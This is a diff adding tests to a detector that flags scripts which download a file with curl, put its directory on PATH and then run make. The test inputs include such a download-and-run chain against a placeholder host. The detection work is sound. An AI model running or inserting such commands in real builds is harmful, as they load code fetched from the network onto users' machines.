@@ -120,3 +120,16 @@ describe("pass 14 helpers' reports: the new readings cost linear time", () => {
     expect(cpuGrowthExponent(PATCH_COST_SIZES, textOf, (text) => dangerousCodeSignals(text))).toBeLessThan(LINEAR_EXPONENT_BOUND);
   });
 });
+
+describe('a directory deeper than the parents looked up by name', () => {
+  // Saved paths' parents of PATH_MAX characters or more are compared with the paths that hold them instead of hashed
+  // (the cost row above: each parent hashed whole cost the square of the path's length). What they answer is the same.
+  it.each([
+    ['shallow', '/opt/a/bin'],
+    ['past PATH_MAX', `/opt/${'a/'.repeat(3_000)}bin`],
+  ])('a %s directory a download saved into, then put on PATH, loads from it', (_, directory) => {
+    expect(dangerousCodeSignals(`curl -so ${directory}/tool https://x.example/t\nexport PATH=${directory}:$PATH\nmake`)).toContain('remote-script');
+    expect(dangerousCodeSignals(`curl -so ${directory}/tool https://x.example/t\nexport PATH=${directory}x:$PATH\nmake`)).not.toContain('remote-script');
+    expect(dangerousCodeSignals(`export PATH=${directory}:$PATH\ncurl -so ${directory}/tool https://x.example/t\nmake`)).not.toContain('remote-script');
+  });
+});
